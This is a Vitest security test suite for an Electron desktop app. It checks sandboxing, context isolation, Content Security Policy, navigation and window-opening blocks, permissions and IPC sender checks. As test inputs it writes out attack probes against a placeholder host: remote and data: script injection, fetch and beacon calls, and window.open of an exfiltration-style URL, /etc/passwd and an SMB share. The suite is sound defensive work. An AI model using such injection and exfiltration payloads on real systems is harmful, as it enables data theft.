import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { contentSecurityPolicy } from '#hosts/content-security-policy'
import { realElectron, recordedCalls } from '../electron-stand-in/launch.ts'
import { type OpenApp, openApp } from './app.ts'

let app: OpenApp
beforeAll(async () => {
  app = await openApp()
  await app.window.waitForSelector('#root > *')
})
afterAll(() => app?.close())

/** Evaluated through DevTools, which a page's policy does not bind. */
const inPage = <T>(expression: string): Promise<T> => app.window.evaluate<T>(expression)

describe('the page', () => {
  test('has nothing of Node or Electron, and of ours one frozen object', async () => {
    const names = [
      'require',
      'process',
      'module',
      'exports',
      'Buffer',
      'global',
      '__dirname',
      'ipcRenderer',
      'electron',
    ]
    expect(await inPage(`${JSON.stringify(names)}.filter((name) => name in window)`)).toEqual([])
    expect(await inPage(`Object.keys(window.somaPort).sort()`)).toEqual([
      'edition',
      'onClose',
      'onMessage',
      'platform',
      'post',
    ])
    expect(await inPage(`Object.isFrozen(window.somaPort)`)).toBe(true)
    expect(await inPage(`Reflect.set(window, 'somaPort', 1)`)).toBe(false)
  })

  test('is isolated from the preload and sandboxed', async () => {
    const preferences = await app.app
      .evaluate(({ BrowserWindow }) => {
        const [window] = BrowserWindow.getAllWindows()
        const { webContents } = window!
        // Electron tells it through this, undocumented and stable; the stand-in refuses anything else at the start.
        const told = webContents as unknown as { getLastWebPreferences?(): Record<string, unknown> }
        return typeof told.getLastWebPreferences === 'function' ? told.getLastWebPreferences() : undefined
      })
      .catch(() => undefined)
    if (realElectron) {
      expect(preferences).toMatchObject({
        sandbox: true,
        contextIsolation: true,
        nodeIntegration: false,
        webSecurity: true,
        webviewTag: false,
      })
    }
    // A prototype that the page spoils is not the one that the preload works with.
    await inPage(`void (Array.prototype.map = () => { throw new Error('spoiled') })`)
    expect(await inPage(`window.somaPort.edition`)).toBe('desktop')
    await app.window.reload()
    await app.window.waitForSelector('#root > *')
  })

  test('stands under our policy and nothing weaker', async () => {
    const policies = await inPage<string[]>(
      `[...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((meta) => meta.content)`,
    )
    expect(policies).toEqual([contentSecurityPolicy])
    // Before anything that it has to hold.
    expect(await inPage(`document.head.firstElementChild.httpEquiv`)).toBe('Content-Security-Policy')
  })

  test.each([
    {
      what: 'an inline script',
      run: `add('script', { textContent: 'window.hacked = 1' })`,
      directive: 'script-src-elem',
    },
    {
      what: 'a script from elsewhere',
      run: `add('script', { src: 'https://evil.invalid/x.js' })`,
      directive: 'script-src-elem',
    },
    {
      what: 'a data: script',
      run: `add('script', { src: 'data:text/javascript,window.hacked=1' })`,
      directive: 'script-src-elem',
    },
    {
      what: 'an inline style',
      run: `add('style', { textContent: 'body { color: red }' })`,
      directive: 'style-src-elem',
    },
    {
      what: 'an image from elsewhere',
      run: `add('img', { src: 'https://evil.invalid/x.png' })`,
      directive: 'img-src',
    },
    { what: 'a frame', run: `add('iframe', { src: 'https://evil.invalid/' })`, directive: 'frame-src' },
    {
      what: 'a request to elsewhere',
      run: `fetch('https://evil.invalid/').catch(() => {})`,
      directive: 'connect-src',
    },
    { what: 'a beacon', run: `navigator.sendBeacon('https://evil.invalid/', 'x')`, directive: 'connect-src' },
  ])('may not have $what', async ({ run, directive }) => {
    const violation = await inPage<{ directive: string }>(`new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) =>
        resolve({ directive: event.effectiveDirective }), { once: true })
      const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values))
      ${run}
    })`)
    expect(violation.directive).toBe(directive)
    expect(await inPage(`window.hacked`)).toBeUndefined()
  })

  test('may not evaluate text', async () => {
    // By way of a script of the page itself: what DevTools evaluates is not bound.
    const refused = await inPage<string>(`new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.blockedURI), { once: true })
      setTimeout('window.hacked = 1', 0)
    })`)
    expect(refused).toBe('eval')
    expect(await inPage(`window.hacked`)).toBeUndefined()
  })
})

describe('the window', () => {
  const url = () => app.window.url()

  test.each([
    { what: 'a script', run: `location.href = 'https://evil.invalid/'` },
    { what: 'another file', run: `location.href = new URL('../main/index.js', location.href).href` },
    { what: 'a link', run: `add({ href: 'https://evil.invalid/' }).click()` },
  ])('does not leave its page by $what', async ({ run }) => {
    const before = url()
    await inPage(`void (() => {
      const add = (values) => { const a = Object.assign(document.createElement('a'), values); document.body.append(a); return a }
      ${run}
    })()`)
    await vi.waitFor(() => expect(logged(app)).resolves.toMatch(/refused to navigate/))
    expect(url()).toBe(before)
    expect(await inPage(`typeof window.somaPort.post`)).toBe('function')
  })

  test('opens no other window and no browser, whatever was clicked: an address can carry what was read', async () => {
    // Beginning with the click that such a page would wait for.
    await app.app.evaluate(({ BrowserWindow }) => {
      const { webContents } = BrowserWindow.getAllWindows()[0]!
      webContents.emit('input-event', {}, { type: 'mouseUp' })
    })
    for (const address of [
      'https://evil.invalid/?read=hunter2',
      'file:///etc/passwd',
      'smb://evil.invalid/share',
    ])
      expect(await inPage(`window.open(${JSON.stringify(address)})`)).toBeNull()
    expect(await app.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    const started = (await recordedCalls(app.app)).filter(({ what }) => what.startsWith('shell.'))
    if (!realElectron) expect(started).toEqual([])
  })

  test('grants nothing but writing to the clipboard', async () => {
    const state = (name: string) =>
      inPage<string>(`navigator.permissions.query({ name: '${name}' }).then(({ state }) => state)`)
    for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read']) {
      expect([name, await state(name)]).toEqual([name, 'denied'])
    }
    expect(await state('clipboard-write')).toBe('granted')
  })

  test('hears the main frame of its page and nobody else', async () => {
    const replies = await app.app.evaluate(async ({ BrowserWindow, ipcMain }) => {
      const { webContents } = BrowserWindow.getAllWindows()[0]!
      const sent: unknown[][] = []
      const { send } = webContents
      webContents.send = (...args) => {
        sent.push(args)
        send.apply(webContents, args)
      }
      const call = (id: number) => ({ t: 'call', id, path: 'app.info', input: {}, credit: 0 })
      const frame = { url: webContents.mainFrame.url, parent: webContents.mainFrame }
      const senders = [
        { sender: webContents, senderFrame: frame },
        { sender: webContents, senderFrame: null },
        { sender: {}, senderFrame: webContents.mainFrame },
      ]
      for (const sender of senders) ipcMain.emit('soma:port', sender, 'a stranger', 'message', call(1))
      const own = { sender: webContents, senderFrame: webContents.mainFrame }
      ipcMain.emit('soma:port', own, 'one of us', 'message', call(2))
      for (let i = 0; i < 1000 && !sent.some(([, to]) => to === 'one of us'); i++) {
        await new Promise((resolve) => setTimeout(resolve, 5))
      }
      webContents.send = send
      return sent.map(([, to]) => to).filter((to) => to === 'a stranger' || to === 'one of us')
    })
    expect(replies).toEqual(['one of us'])
  })
})

/** What the app has written to its log file. */
const logged = async ({ dataDir }: OpenApp): Promise<string> => {
  const { readFile } = await import('node:fs/promises')
  return readFile(`${dataDir}/logs/soma.log`, 'utf8')
}
